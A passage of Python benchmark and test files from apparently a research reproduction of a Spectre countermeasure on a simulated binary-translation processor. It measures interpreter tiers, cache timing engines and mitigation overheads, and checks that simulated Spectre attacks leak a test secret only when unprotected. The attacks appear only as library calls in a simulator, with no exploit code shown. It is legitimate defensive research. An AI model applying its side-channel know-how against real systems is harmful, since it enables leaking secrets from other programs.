    assert e1["reference"]["guest_instructions"] == \
        e1["fast"]["guest_instructions"]
    # The tentpole bar is >= 2x on the full E1 matrix; quick mode runs
    # are startup-dominated, so only require parity there.
    floor = 1.0 if QUICK else 2.0
    assert e1["fast_path_speedup"] >= floor, (
        "fast path speedup %.2fx below %.1fx floor"
        % (e1["fast_path_speedup"], floor))


def test_compiled_tier_beats_fast_path(host_report):
    """Tier-3 must simulate the same guest work and beat the fast
    interpreter on E1 (the acceptance bar); quick mode's single noisy
    wall sample only gates parity with the reference tier."""
    e1 = host_report["e1_attack_matrix"]
    compiled = e1["compiled"]
    assert compiled["guest_instructions"] == e1["fast"]["guest_instructions"]
    assert compiled["guest_cycles"] == e1["fast"]["guest_cycles"]
    assert e1["compiled_speedup"] >= 1.0
    if not QUICK:
        assert e1["compiled_speedup"] >= e1["fast_path_speedup"], (
            "compiled tier %.2fx below fast tier %.2fx"
            % (e1["compiled_speedup"], e1["fast_path_speedup"]))


def test_compiled_tier_reports_codegen_counters(host_report):
    """The compiled E1 rows carry the ``dbt.codegen.*`` counters, and
    the warmest repeat ran against the persistent cache."""
    e1 = host_report["e1_attack_matrix"]
    for row in ("compiled", "compiled_chained"):
        codegen = e1[row]["codegen"]
        assert codegen["persist_hits"] > 0, (
            "%s never hit the persistent cache: %r" % (row, codegen))
        assert codegen["compiles"] == 0, (
            "%s still compiling when warm: %r" % (row, codegen))


def test_tcache_persistence_cold_then_warm(host_report):
    """The explicit cold/warm section: a second process sharing the
    ``--tcache-dir`` loads envelopes instead of compiling."""
    persistence = host_report["tcache_persistence"]
    cold, warm = persistence["cold"], persistence["warm"]
    assert cold["codegen"]["compiles"] > 0
    assert cold["codegen"]["persist_stores"] > 0
    assert warm["codegen"]["compiles"] == 0
    assert warm["codegen"]["persist_hits"] > 0
    assert persistence["warm_speedup"] > 0


def test_chained_dispatch_identical_and_not_slower(host_report):
    """Block chaining is a dispatch-layer optimization: the chained E1
    matrix must simulate the exact same guest work (instruction and
    cycle counts bit-identical to the unchained fast path), actually
    chain (links formed, chains dispatched, every break attributed),
    and never cost host time.  The measured gain on this matrix is
    Amdahl-bounded — dispatch is a small share of the wall once
    intra-block execution runs on the fast path — so the travelling bar
    is parity, not a ratio; see docs/PERFORMANCE.md §2."""
    e1 = host_report["e1_attack_matrix"]
    chained = e1["fast_chained"]
    assert chained["guest_instructions"] == e1["fast"]["guest_instructions"]
    assert chained["guest_cycles"] == e1["fast"]["guest_cycles"]
    stats = chained["chain"]
    assert stats["links"] > 0
    assert stats["dispatches"] > stats["links"]
    assert stats["breaks"] and all(
        reason in ("hot", "rollback", "syscall", "miss", "budget")
        for reason in stats["breaks"])
    assert e1["chain_speedup"] > 0
    # Quick mode takes one noisy wall sample per configuration — a
    # ratio bar there would flake, so parity is only enforced on the
    # best-of-N full run.
    if not QUICK:
        assert e1["chain_speedup"] >= 1.0, (
            "chained dispatch slower than unchained: %.2fx"
            % e1["chain_speedup"])
    # The compiled tier chains too, with the same guest work.
    compiled_chained = e1["compiled_chained"]
    assert (compiled_chained["guest_instructions"]
            == e1["fast"]["guest_instructions"])
    assert compiled_chained["chain"]["links"] > 0


def test_kernel_rows_cover_all_tiers(host_report):
    rows = host_report["kernels"]
    assert rows, "no kernel measurements"
    by_key = {(r["kernel"], r["policy"], r["interpreter"]) for r in rows}
    kernels = {r["kernel"] for r in rows}
    policies = {r["policy"] for r in rows}
    interpreters = {r["interpreter"] for r in rows}
    assert interpreters == {"reference", "fast", "compiled", "auto"}
    assert len(by_key) == len(kernels) * len(policies) * 4


# ---------------------------------------------------------------------------
# Tier-4 trace compilation and profile-driven tier placement.
# ---------------------------------------------------------------------------

def test_trace_tier_identical_and_not_slower(host_report):
    """The tier-4 megablock rows simulate the exact same guest work as
    the chained compiled tier, actually fuse (traces recorded, compiled
    and dispatched; warm repeats load envelopes instead of compiling),
    and the warm E1 wall must not lose to tier-3.  Like chaining, the
    measured gain is Amdahl-bounded — megablocks only remove dispatch
    seam work from the share of blocks inside hot loops — so the
    travelling bar is parity within the host noise floor, with the
    actual measured edge recorded as ``trace_speedup`` in the stored
    baseline; see docs/PERFORMANCE.md §7."""
    e1 = host_report["e1_attack_matrix"]
    traced = e1["trace_chained"]
    compiled_chained = e1["compiled_chained"]
    assert (traced["guest_instructions"]
            == compiled_chained["guest_instructions"])
    assert traced["guest_cycles"] == compiled_chained["guest_cycles"]
    trace = traced["trace"]
    assert trace["recorded"] > 0
    assert trace["compiled"] > 0
    assert trace["dispatches"] > 0
    assert trace["blocks"] > trace["dispatches"]
    # The warmest repeat loaded megablock envelopes from --tcache-dir.
    assert trace["persist_hits"] > 0
    assert e1["trace_speedup"] > 0
    if not QUICK:
        assert e1["trace_speedup"] >= 0.97, (
            "trace tier lost to compiled beyond the noise floor: %.3fx"
            % e1["trace_speedup"])


def test_auto_tier_kernels_never_below_fast(host_report):
    """Profile-driven tier placement must make ``--tier auto`` safe to
    leave on: on every Polybench kernel the auto rows decline compiles
    that cannot amortize, so their walls stay at fast-interpreter
    parity.  Gated per kernel on the sum over policies (single-sample
    rows are too noisy individually)."""
    if QUICK:
        pytest.skip("single noisy wall samples in quick mode")
    rows = host_report["kernels"]
    by_tier = {}
    for row in rows:
        by_tier.setdefault((row["kernel"], row["interpreter"]), 0.0)
        by_tier[(row["kernel"], row["interpreter"])] += row["wall_seconds"]
    kernels = {r["kernel"] for r in rows}
    for kernel in kernels:
        fast = by_tier[(kernel, "fast")]
        auto = by_tier[(kernel, "auto")]
        assert auto <= fast * 1.15, (
            "auto tiering regressed %s below fast: %.4fs vs %.4fs"
            % (kernel, auto, fast))


def test_batched_sweep_warm_pool_beats_per_point_cold(host_report):
    """The acceptance bar for batched multi-guest execution: rows from
    every batched pass are byte-identical to the per-point path, the
    pool genuinely shared work (guests registered, artifacts hit), and
    the warm-pool batched sweep runs in at most 0.7x the per-point cold
    wall on the quick E2 matrix — translation/optimization/codegen cost
    is paid once per (kernel, policy) shard instead of once per guest.
    """
    batched = host_report["batched_sweep"]
    assert batched["rows_identical"], (
        "batched sweep rows diverged from the per-point path")
    pool = batched["pool"]
    assert pool["guests"] > 0
    assert pool["installs"] > 0
    assert pool["hits"] > 0, "warm passes never hit the pool: %r" % pool
    assert batched["warm_ratio"] is not None
    assert batched["warm_ratio"] <= 0.7, (
        "warm-pool batched sweep %.2fs not under 0.7x the per-point "
        "cold path %.2fs (ratio %.3f)"
        % (batched["batched_warm_wall_seconds"],
           batched["per_point_cold_wall_seconds"],
           batched["warm_ratio"]))


def test_vector_timing_engine_not_slower_and_identical(host_report):
    """The acceptance bar for the vectorized lane-batched cache timing
    engine: per-guest records are byte-identical across engines (the
    in-report echo of the lane-differential test gate), the lane
    counters show the engine actually batched, and on the full run the
    vector engine must win the raw cache microbench that isolates it
    while staying at parity on the end-to-end batched E1 matrix (quick
    mode's single wall sample only gates identity).  Cache modelling is
    ~10% of the batched E1 wall, and that wall sits below the
    perf-trend noise floor (0.2 s) on small hosts, so the end-to-end
    bar is parity within the host noise floor — the same idiom as the
    trace-tier gate — while the microbench, which the engine fully
    dominates, must not lose."""
    timing = host_report["timing_model"]
    e1 = timing["e1_matrix"]
    assert e1["records_identical"], (
        "vector timing engine changed guest observables")
    lane = e1["lane"]
    assert lane["mem.cache.lane.lanes"] > 0
    assert lane["mem.cache.lane.entries"] > 0
    assert lane["mem.cache.lane.excluded"] == 0
    micro = timing["cache_microbench"]
    assert micro["stats_identical"], (
        "lane model stats diverged from the scalar model")
    assert micro["scalar_ops_per_second"] > 0
    assert micro["vector_ops_per_second"] > 0
    if not QUICK:
        # The microbench isolates the lane engine; it must win outright.
        assert micro["vector_speedup"] >= 1.0, (
            "lane engine lost the raw cache microbench: %d vs %d ops/s "
            "(%.3fx)"
            % (micro["vector_ops_per_second"],
               micro["scalar_ops_per_second"],
               micro["vector_speedup"]))
        # End-to-end the cache slice is too small to clear host jitter
        # on a ~0.16 s wall; require parity within the noise floor.
        assert e1["vector_speedup"] >= 0.85, (
            "vector batched E1 regressed past the noise floor: %.2fs vs "
            "%.2fs (%.3fx)"
            % (e1["vector_batched_wall_seconds"],
               e1["scalar_batched_wall_seconds"],
               e1["vector_speedup"]))


def test_sweep_scaling_recorded(host_report):
    sweep = host_report["figure4_sweep"]
    assert set(sweep["wall_seconds_by_jobs"]) == {"1", "4"}
    assert all(wall > 0 for wall in sweep["wall_seconds_by_jobs"].values())
    if not QUICK:
        # Adaptive job sizing: --jobs 4 must never lose to serial.
        walls = sweep["wall_seconds_by_jobs"]
        assert walls["4"] <= walls["1"] * 1.1, (
            "--jobs 4 slower than serial: %.3fs vs %.3fs"
            % (walls["4"], walls["1"]))


def test_write_host_report(host_report, results_dir):
    save_result("BENCH_host.txt", format_report(host_report))
    path = results_dir / "BENCH_host.json"
    path.write_text(json.dumps(host_report, indent=2, sort_keys=True) + "\n")
