"""Experiment E4 — Section V-B modified matrix multiplication.

Paper: "we have manually modified the matrix multiplication benchmark to
insert the Spectre pattern ... selecting the [2D-array representation]
based on arrays of pointers.  On this modified application, our
fine-grained countermeasure increases the execution time by 4% while the
one based on a fence increases the execution time by 15%."

Regenerates: the slowdown of GhostBusters vs fence-on-detection vs
no-speculation on the pointer-table matmul, side by side with the flat
matmul where neither costs anything.  Expected shape: the flat variant
shows no pattern and no countermeasure cost; the pointer variant shows
patterns, with fine-grained < fence (< or ~= no-speculation).
"""

import pytest

from repro.interp import run_program
from repro.kernels import build_kernel_program, matmul_flat, matmul_ptr
from repro.platform import compare_policies
from repro.platform.system import DbtSystem
from repro.security.policy import MitigationPolicy

from conftest import save_result


@pytest.fixture(scope="module")
def matmul_results():
    data = {}
    rows = ["%-12s %14s %14s %14s %10s" % (
        "variant", "ghostbusters", "fence", "no-spec", "patterns",
    )]
    for name, factory in (("flat", matmul_flat), ("pointer", matmul_ptr)):
        program = build_kernel_program(factory())
        expected = run_program(program).exit_code
        comparison = compare_policies(name, program, expect_exit_code=expected)
        patterns = comparison.results["our approach"].engine.spectre_patterns_detected
        data[name] = (comparison, patterns)
        rows.append("%-12s %13.1f%% %13.1f%% %13.1f%% %10d" % (
            name,
            100.0 * comparison.slowdown("our approach"),
            100.0 * comparison.slowdown("fence on detection"),
            100.0 * comparison.slowdown("no speculation"),
            patterns,
        ))
    save_result("E4_modified_matmul.txt", "\n".join(rows))
    return data


def test_flat_variant_is_pattern_free(matmul_results):
    comparison, patterns = matmul_results["flat"]
    assert patterns == 0
    assert comparison.slowdown("our approach") == pytest.approx(1.0)
    assert comparison.slowdown("fence on detection") == pytest.approx(1.0)


def test_pointer_variant_exhibits_the_pattern(matmul_results):
    _, patterns = matmul_results["pointer"]
    assert patterns > 0


def test_fine_grained_beats_fence(matmul_results):
    """The paper's headline V-B number: fine-grained mitigation is
    substantially cheaper than fencing when the pattern is present."""
    comparison, _ = matmul_results["pointer"]
    fine = comparison.slowdown("our approach")
    fence = comparison.slowdown("fence on detection")
    no_spec = comparison.slowdown("no speculation")
    assert 1.0 < fine < fence, (fine, fence)
    assert fence <= no_spec + 0.01


@pytest.mark.parametrize("policy", [
    MitigationPolicy.UNSAFE,
    MitigationPolicy.GHOSTBUSTERS,
    MitigationPolicy.FENCE,
])
def test_pointer_matmul_run_time(policy, benchmark, matmul_results):
    program = build_kernel_program(matmul_ptr())

    def run_once():
        return DbtSystem(program, policy=policy).run()

    result = benchmark.pedantic(run_once, rounds=1, iterations=1)
    benchmark.extra_info["guest_cycles"] = result.cycles
