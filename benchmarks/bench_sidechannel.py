"""Experiment E7 — side-channel quality (Section V-A, in-text claim).

Paper: "performing the cache side-channel attack is more straightforward
on DBT based processor than on OoO cores.  Indeed, DBT based use in-order
execution, where the timing is more stable than for OoO cores, which
simplifies the distinction between hits and misses."

Regenerates: the timed-probe latency distribution for cache hits vs
misses as observed by the guest through ``rdcycle``, plus the resulting
hit/miss separation margin.
"""

import pytest

from repro.attacks import run_calibration
from repro.attacks.sidechannel import DEFAULT_THRESHOLD

from conftest import save_result

SAMPLES = 64


@pytest.fixture(scope="module")
def calibration():
    result = run_calibration(samples=SAMPLES)

    def histogram(values):
        counts = {}
        for value in values:
            counts[value] = counts.get(value, 0) + 1
        return "  ".join("%d cyc x%d" % (k, v) for k, v in sorted(counts.items()))

    rows = [
        "timed probe latencies over %d samples (guest rdcycle deltas)" % SAMPLES,
        "",
        "hits : %s" % histogram(result.hit_times),
        "miss : %s" % histogram(result.miss_times),
        "",
        "max hit       : %d cycles" % result.max_hit,
        "min miss      : %d cycles" % result.min_miss,
        "separation    : %d cycles" % result.separation,
        "threshold used: %d cycles" % DEFAULT_THRESHOLD,
    ]
    save_result("E7_sidechannel_calibration.txt", "\n".join(rows))
    return result


def test_channel_separates_cleanly(calibration):
    assert calibration.separation > 0
    assert calibration.max_hit < DEFAULT_THRESHOLD < calibration.min_miss


def test_in_order_timing_is_stable(calibration):
    # The paper's point: in-order timing is stable.  All hit probes and
    # all miss probes measure within a tight band.
    assert max(calibration.hit_times) - min(calibration.hit_times) <= 2
    assert max(calibration.miss_times) - min(calibration.miss_times) <= 2


def test_calibration_run_time(benchmark, calibration):
    result = benchmark.pedantic(
        run_calibration, kwargs={"samples": 16}, rounds=1, iterations=1,
    )
    benchmark.extra_info["separation_cycles"] = result.separation
