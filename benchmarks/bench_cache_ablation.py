"""Ablation A4 — side-channel contrast vs. cache miss latency.

Negative control for the attack machinery: the flush+reload channel only
works when hit and miss latencies are separable by the guest's timer.
Sweeping the miss latency down towards the hit latency shrinks the
signal; in a *noiseless* simulator even a few cycles of contrast remain
exploitable (the deterministic analogue of the paper's "in-order timing
is more stable" remark), and only zero contrast kills the channel — while
the architectural behaviour never changes.
"""

import pytest

from repro.attacks import AttackVariant, run_attack
from repro.mem.cache import CacheConfig
from repro.security.policy import MitigationPolicy
from repro.vliw.config import VliwConfig

from conftest import save_result

SECRET = b"GB"
MISS_LATENCIES = (30, 18, 8, 3)


def _config(miss_latency: int) -> VliwConfig:
    return VliwConfig(cache=CacheConfig(
        hit_latency=3, miss_latency=miss_latency,
    ))


@pytest.fixture(scope="module")
def cache_data():
    rows = ["%-12s %12s %14s" % ("miss lat", "separation", "bytes leaked")]
    data = {}
    for miss in MISS_LATENCIES:
        config = _config(miss)
        result = run_attack(
            AttackVariant.SPECTRE_V1, MitigationPolicy.UNSAFE,
            secret=SECRET, vliw_config=config,
        )
        separation = miss - 3  # architectural contrast of this config
        rows.append("%-12d %12d %11d/%d" % (
            miss, separation, result.bytes_recovered, len(SECRET),
        ))
        data[miss] = result
    save_result("A4_cache_contrast_ablation.txt", "\n".join(rows))
    return data


def test_large_contrast_leaks(cache_data):
    assert cache_data[30].leaked
    assert cache_data[18].leaked


def test_small_contrast_still_leaks_in_a_noiseless_simulator(cache_data):
    # Deterministic timing means even a few cycles of contrast remain
    # exploitable — the simulator analogue of the paper's remark that
    # stable in-order timing makes the channel *easier*.
    assert cache_data[8].leaked


def test_zero_contrast_breaks_the_channel(cache_data):
    # With miss latency == hit latency there is no signal at all: the
    # classifier falls back to the first-probed line for every byte.
    assert not cache_data[3].leaked


def test_architectural_behaviour_unchanged(cache_data):
    assert {r.run.exit_code for r in cache_data.values()} == {0}


@pytest.mark.parametrize("miss", [30, 3])
def test_cache_ablation_run_time(miss, benchmark, cache_data):
    def run_once():
        return run_attack(
            AttackVariant.SPECTRE_V1, MitigationPolicy.UNSAFE,
            secret=SECRET, vliw_config=_config(miss),
        )

    result = benchmark.pedantic(run_once, rounds=1, iterations=1)
    benchmark.extra_info["bytes_recovered"] = result.bytes_recovered
