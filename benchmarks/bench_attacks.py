"""Experiment E1 — the Section V-A proof-of-concept matrix.

Paper claim: both Spectre variants read memory they should not on the
unprotected platform, and a simple DBT software update (GhostBusters)
blocks them; turning speculation off also blocks them.

The regenerated artefact is the variant x policy matrix; each benchmark
run times one full attack (training + per-byte flush/attack/probe rounds)
on the simulated platform.
"""

import pytest

from repro.attacks import AttackVariant, attack_matrix, format_matrix, run_attack
from repro.security.policy import ALL_POLICIES, MitigationPolicy

from conftest import save_result

SECRET = b"GHOST"


@pytest.fixture(scope="module")
def matrix():
    data = attack_matrix(secret=SECRET)
    rows = [format_matrix(data), ""]
    for variant, per_policy in data.items():
        for policy, result in per_policy.items():
            rows.append("%-12s %-16s recovered %2d/%2d bytes, %7d rollbacks, %9d cycles" % (
                variant.value, policy.value, result.bytes_recovered,
                len(result.secret), result.run.rollbacks, result.run.cycles,
            ))
    save_result("E1_attack_matrix.txt", "\n".join(rows))
    return data


@pytest.mark.parametrize("variant", list(AttackVariant))
def test_unsafe_leaks(matrix, variant, benchmark):
    result = benchmark.pedantic(
        run_attack, args=(variant, MitigationPolicy.UNSAFE, SECRET),
        rounds=1, iterations=1,
    )
    assert result.leaked
    benchmark.extra_info["cycles"] = result.run.cycles
    benchmark.extra_info["accuracy"] = result.accuracy


@pytest.mark.parametrize("variant", list(AttackVariant))
@pytest.mark.parametrize("policy", [
    MitigationPolicy.GHOSTBUSTERS,
    MitigationPolicy.FENCE,
    MitigationPolicy.NO_SPECULATION,
])
def test_countermeasures_block(matrix, variant, policy, benchmark):
    result = benchmark.pedantic(
        run_attack, args=(variant, policy, SECRET), rounds=1, iterations=1,
    )
    assert not result.leaked
    assert result.bytes_recovered == 0
    benchmark.extra_info["cycles"] = result.run.cycles
