"""Experiment E3 — Section V-B fence ablation.

Paper: "we did a third experiment where we added a fence whenever the
Spectre pattern is detected.  Here again, the countermeasure does not
impact the execution time, which means that the Spectre pattern is not
commonly seen on the binaries."

Regenerates: per-Polybench-kernel slowdown of the fence-on-detection
policy plus the number of Spectre patterns detected (expected: zero
patterns, 100% runtime on the flat-array kernels).
"""

import pytest

from repro.interp import run_program
from repro.kernels import POLYBENCH_SUITE, build_kernel_program
from repro.platform import compare_policies
from repro.platform.system import DbtSystem
from repro.security.policy import MitigationPolicy

from conftest import save_result


@pytest.fixture(scope="module")
def ablation():
    rows = ["%-12s %10s %10s %10s" % ("kernel", "fence", "patterns", "unsafe cyc")]
    data = {}
    for name, factory in POLYBENCH_SUITE.items():
        program = build_kernel_program(factory())
        expected = run_program(program).exit_code
        comparison = compare_policies(
            name, program,
            policies=(MitigationPolicy.UNSAFE, MitigationPolicy.FENCE),
            expect_exit_code=expected,
        )
        fence_run = comparison.results["fence on detection"]
        patterns = fence_run.engine.spectre_patterns_detected
        ratio = comparison.slowdown("fence on detection")
        rows.append("%-12s %9.1f%% %10d %10d" % (
            name, 100.0 * ratio, patterns, comparison.results["unsafe"].cycles,
        ))
        data[name] = (ratio, patterns)
    save_result("E3_fence_ablation.txt", "\n".join(rows))
    return data


def test_fence_is_free_because_pattern_is_rare(ablation):
    for name, (ratio, patterns) in ablation.items():
        assert patterns == 0, "unexpected Spectre pattern in %s" % name
        assert ratio == pytest.approx(1.0), name


@pytest.mark.parametrize("name", ["gemm", "jacobi-1d", "trisolv"])
def test_fence_run_time(name, benchmark, ablation):
    program = build_kernel_program(POLYBENCH_SUITE[name]())

    def run_once():
        return DbtSystem(program, policy=MitigationPolicy.FENCE).run()

    result = benchmark.pedantic(run_once, rounds=1, iterations=1)
    benchmark.extra_info["guest_cycles"] = result.cycles
    benchmark.extra_info["fence_slowdown"] = round(ablation[name][0], 4)
