"""Non-gating host-perf trend: run bench-host and diff the committed baseline.

CI's ``perf-trend`` job runs this after the test suite.  It re-measures
the host-perf report (``repro bench-host``), diffs every comparable
scalar against the committed ``benchmarks/results/BENCH_host.json``,
and writes a markdown delta summary for the build artifact.

It never fails the build (wall-clock on shared runners is noise — the
bit-exactness differential test is the gate), and it refuses to produce
a *misleading* diff: metrics are only compared when the baseline and
the fresh run share a report schema, host fingerprint, and quick/full
mode; otherwise the summary says so and lists the fresh numbers alone.

Usage:
    PYTHONPATH=src python benchmarks/perf_trend.py \
        [--quick] [--baseline PATH] [--current PATH] [--out PATH]

``--current PATH`` diffs an existing report instead of re-running the
bench (handy for diffing two archived artifacts).
"""

import argparse
import json
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
DEFAULT_BASELINE = os.path.join(HERE, "results", "BENCH_host.json")
# Quick mode shortens the secret and drops kernels, so a quick run can
# only be diffed against a quick baseline — CI compares like with like.
QUICK_BASELINE = os.path.join(HERE, "results", "BENCH_host_quick.json")
DEFAULT_OUT = os.path.join(HERE, "results", "PERF_trend.md")

# Walls smaller than this carry more timer jitter than signal; the
# summary flags their deltas rather than letting a 40% swing on a 60 ms
# wall read like a regression.
NOISE_FLOOR_SECONDS = 0.2


def flatten_metrics(report):
    """Extract the comparable scalars from a bench-host report as an
    ordered ``{name: (value, unit)}`` mapping."""
    metrics = {}

    e1 = report.get("e1_attack_matrix", {})
    for tier in ("reference", "fast", "fast_chained", "compiled",
                 "compiled_chained", "trace_chained"):
        row = e1.get(tier)
        if row:
            metrics["e1.%s.wall" % tier] = (row["wall_seconds"], "s")
            metrics["e1.%s.ips" % tier] = (
                row["guest_instructions_per_second"], "instr/s")
    for ratio in ("fast_path_speedup", "chain_speedup", "compiled_speedup",
                  "trace_speedup"):
        if ratio in e1:
            metrics["e1.%s" % ratio] = (e1[ratio], "x")

    tcache = report.get("tcache_persistence", {})
    for phase in ("cold", "warm"):
        if phase in tcache:
            metrics["tcache.%s.wall" % phase] = (
                tcache[phase]["wall_seconds"], "s")
    if "warm_speedup" in tcache:
        metrics["tcache.warm_speedup"] = (tcache["warm_speedup"], "x")

    for row in report.get("kernels", []):
        name = "kernel.%s.%s.%s.wall" % (
            row["kernel"], row["policy"], row["interpreter"])
        metrics[name] = (row["wall_seconds"], "s")

    sweep = report.get("figure4_sweep", {})
    for jobs, wall in sorted(sweep.get("wall_seconds_by_jobs", {}).items()):
        metrics["sweep.jobs%s.wall" % jobs] = (wall, "s")

    profiler = report.get("profiler_overhead", {})
    if profiler:
        metrics["profiler.overhead"] = (profiler["overhead_percent"], "%")

    batched = report.get("batched_sweep", {})
    for phase in ("per_point_cold", "batched_cold", "batched_warm"):
        key = "%s_wall_seconds" % phase
        if key in batched:
            metrics["batched.%s.wall" % phase] = (batched[key], "s")
    if batched.get("warm_ratio") is not None:
        metrics["batched.warm_ratio"] = (batched["warm_ratio"], "x")

    timing = report.get("timing_model", {})
    timing_e1 = timing.get("e1_matrix", {})
    for engine in ("scalar", "vector"):
        key = "%s_batched_wall_seconds" % engine
        if key in timing_e1:
            metrics["timing.e1.%s.wall" % engine] = (timing_e1[key], "s")
    if timing_e1.get("vector_speedup") is not None:
        metrics["timing.e1.vector_speedup"] = (
            timing_e1["vector_speedup"], "x")
    micro = timing.get("cache_microbench", {})
    for engine in ("scalar", "vector"):
        key = "%s_ops_per_second" % engine
        if key in micro:
            metrics["timing.microbench.%s.ops" % engine] = (
                micro[key], "ops/s")
    if micro.get("vector_speedup") is not None:
        metrics["timing.microbench.vector_speedup"] = (
            micro["vector_speedup"], "x")

    return metrics


def comparability(baseline, current):
    """Return a list of reasons the two reports must not be diffed
    (empty list = comparable)."""
    reasons = []
    if baseline is None:
        return ["no baseline report"]
    if baseline.get("schema") != current.get("schema"):
        reasons.append("schema %s vs %s" % (baseline.get("schema"),
                                            current.get("schema")))
    if baseline.get("host") != current.get("host"):
        reasons.append("host fingerprint differs (%s vs %s)" % (
            baseline.get("host"), current.get("host")))
    if bool(baseline.get("quick")) != bool(current.get("quick")):
        reasons.append("quick/full mode differs (workloads are not the "
                       "same measurement)")
    return reasons


def diff_rows(baseline_metrics, current_metrics):
    """One row per metric present in either report."""
    rows = []
    for name in sorted(set(baseline_metrics) | set(current_metrics)):
        base = baseline_metrics.get(name)
        cur = current_metrics.get(name)
        if base is None or cur is None:
            rows.append((name, base, cur, None, "only in %s" %
                         ("current" if base is None else "baseline")))
            continue
        base_value, unit = base
        cur_value, _ = cur
        delta = (cur_value - base_value) / base_value * 100 if base_value \
            else float("inf")
        note = ""
        if unit == "s" and max(base_value, cur_value) < NOISE_FLOOR_SECONDS:
            note = "below noise floor"
        rows.append((name, base, cur, delta, note))
    return rows


def _fmt(metric):
    if metric is None:
        return "—"
    value, unit = metric
    if unit == "instr/s":
        return "%d %s" % (value, unit)
    return "%.4g %s" % (value, unit)


def render_markdown(baseline, current, reasons, rows):
    lines = ["# Host-perf trend", ""]
    host = current.get("host", {})
    lines.append("Fresh run: schema `%s`, %s mode, %s %s on %s (%d CPU)." % (
        current.get("schema"), "quick" if current.get("quick") else "full",
        host.get("implementation"), host.get("python"), host.get("machine"),
        host.get("cpu_count", 0)))
    lines.append("")
    lines.append("This summary is **non-gating**: shared-runner wall clocks "
                 "are noise; only the bit-exactness differential test gates.")
    lines.append("")

    if reasons:
        lines.append("## Baseline not comparable — fresh numbers only")
        lines.append("")
        for reason in reasons:
            lines.append("- %s" % reason)
        lines.append("")
        lines.append("| metric | value |")
        lines.append("|---|---|")
        for name, (value, unit) in sorted(flatten_metrics(current).items()):
            lines.append("| `%s` | %s |" % (name, _fmt((value, unit))))
        lines.append("")
        return "\n".join(lines)

    lines.append("Baseline: `%s` from %s." % (
        baseline.get("schema"), baseline.get("timestamp", "?")))
    lines.append("")
    lines.append("| metric | baseline | current | delta | note |")
    lines.append("|---|---|---|---|---|")
    for name, base, cur, delta, note in rows:
        delta_text = "—" if delta is None else "%+.1f%%" % delta
        lines.append("| `%s` | %s | %s | %s | %s |" % (
            name, _fmt(base), _fmt(cur), delta_text, note))
    lines.append("")

    regressions = [(name, delta) for name, base, cur, delta, note in rows
                   if delta is not None and not note
                   and name.endswith(".wall") and delta > 25]
    if regressions:
        lines.append("## Walls >25% over baseline (worth a look, not a gate)")
        lines.append("")
        for name, delta in regressions:
            lines.append("- `%s`: %+.1f%%" % (name, delta))
        lines.append("")
    else:
        lines.append("No wall above the noise floor regressed more than "
                     "25% against the baseline.")
        lines.append("")
    return "\n".join(lines)


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--baseline", default=None,
                        help="committed report to diff against (default: "
                        "the full or quick committed baseline to match "
                        "the run mode)")
    parser.add_argument("--current", default=None,
                        help="diff this report instead of re-running bench")
    parser.add_argument("--quick", action="store_true",
                        help="run bench-host in quick (CI) mode")
    parser.add_argument("--out", default=DEFAULT_OUT,
                        help="markdown summary path")
    args = parser.parse_args(argv)
    if args.baseline is None:
        args.baseline = QUICK_BASELINE if args.quick else DEFAULT_BASELINE

    if args.current:
        with open(args.current) as handle:
            current = json.load(handle)
    else:
        from repro.benchhost import run_bench_host
        current = run_bench_host(quick=args.quick)

    baseline = None
    try:
        with open(args.baseline) as handle:
            baseline = json.load(handle)
    except (OSError, ValueError) as error:
        baseline_error = str(error)
    else:
        baseline_error = None

    reasons = comparability(baseline, current)
    if baseline_error:
        reasons = ["baseline unreadable: %s" % baseline_error]
    rows = [] if reasons else diff_rows(flatten_metrics(baseline),
                                        flatten_metrics(current))
    text = render_markdown(baseline, current, reasons, rows)

    os.makedirs(os.path.dirname(os.path.abspath(args.out)), exist_ok=True)
    with open(args.out, "w") as handle:
        handle.write(text)
    sys.stdout.write(text + "\n")
    sys.stdout.write("wrote %s\n" % args.out)
    return 0  # never gates


if __name__ == "__main__":
    sys.exit(main())
