"""Ablation A2 — superblock size (unrolling) vs. speculation benefit.

DESIGN.md calls out loop unrolling during superblock construction as the
mechanism that creates cross-iteration speculation opportunities (loads
of iteration i+1 hoisted above the guard branch and stores of iteration
i).  This ablation sweeps the superblock instruction budget and measures
both the unsafe performance and the cost of disabling speculation.

Expected: with tiny traces (~ one loop body) speculation buys almost
nothing; the benefit grows with the unrolling budget.
"""

import pytest

from repro.dbt.engine import DbtEngineConfig
from repro.dbt.superblock import SuperblockLimits
from repro.interp import run_program
from repro.kernels import build_kernel_program, gemm
from repro.platform.system import DbtSystem
from repro.security.policy import MitigationPolicy

from conftest import save_result

BUDGETS = (12, 24, 48, 96)


def _run(program, policy, budget):
    config = DbtEngineConfig(
        superblock=SuperblockLimits(max_instructions=budget),
    )
    system = DbtSystem(program, policy=policy, engine_config=config)
    return system.run()


@pytest.fixture(scope="module")
def unrolling_data():
    program = build_kernel_program(gemm(10))
    expected = run_program(program).exit_code
    rows = ["%-8s %12s %14s %14s" % ("budget", "unsafe cyc", "no-spec cyc", "no-spec cost")]
    data = {}
    for budget in BUDGETS:
        unsafe = _run(program, MitigationPolicy.UNSAFE, budget)
        no_spec = _run(program, MitigationPolicy.NO_SPECULATION, budget)
        assert unsafe.exit_code == no_spec.exit_code == expected
        ratio = no_spec.cycles / unsafe.cycles
        rows.append("%-8d %12d %14d %13.1f%%" % (
            budget, unsafe.cycles, no_spec.cycles, 100.0 * ratio,
        ))
        data[budget] = (unsafe.cycles, ratio)
    save_result("A2_unrolling_ablation.txt", "\n".join(rows))
    return data


def test_unrolling_improves_unsafe_performance(unrolling_data):
    assert unrolling_data[96][0] < unrolling_data[12][0]


def test_speculation_benefit_grows_with_trace_size(unrolling_data):
    assert unrolling_data[96][1] > unrolling_data[12][1]


@pytest.mark.parametrize("budget", BUDGETS)
def test_unrolling_run_time(budget, benchmark, unrolling_data):
    program = build_kernel_program(gemm(10))

    def run_once():
        return _run(program, MitigationPolicy.UNSAFE, budget)

    result = benchmark.pedantic(run_once, rounds=1, iterations=1)
    benchmark.extra_info["guest_cycles"] = result.cycles
    benchmark.extra_info["no_spec_cost"] = round(unrolling_data[budget][1], 4)
