"""Experiment E2 — Figure 4: slowdown of the countermeasures.

Paper series: for each benchmark application (Polybench suite plus the
two Spectre PoCs), the execution-time ratio of (a) *our approach*
(GhostBusters) and (b) *no speculation* over the unsafe baseline.

Paper result: "on most of the application studied the countermeasure does
not cause any slowdown.  On the contrary, the simple countermeasure,
where the speculation is turned off in the DBT engine, has a significant
